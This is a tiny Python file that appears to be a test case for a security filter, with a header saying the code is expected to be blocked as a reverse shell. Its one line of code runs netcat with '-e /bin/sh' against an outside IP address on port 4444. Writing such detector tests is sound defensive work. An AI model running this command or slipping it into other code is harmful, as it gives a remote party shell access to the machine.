# expect: BLOCKED category: reverse_shell
# netcat -e hands /bin/sh to the network.
import subprocess

subprocess.run(["nc", "-e", "/bin/sh", "203.0.113.5", "4444"], check=False)
